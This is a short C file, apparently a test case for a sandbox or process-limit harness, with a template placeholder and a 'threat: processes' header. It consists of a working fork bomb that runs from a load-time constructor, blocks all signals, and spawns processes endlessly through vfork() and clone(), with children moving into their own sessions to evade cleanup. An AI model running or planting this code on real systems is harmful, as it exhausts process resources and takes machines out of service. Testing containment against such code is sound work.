/* about: the same by vfork() and clone(), with signals blocked and sessions of their own
 * time: run
 * threat: processes
 * never: none
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void bomb(void)
{
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    for (;;) {
        if (vfork() == 0)
            _exit(0);
        if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0)
            setsid();
    }
}
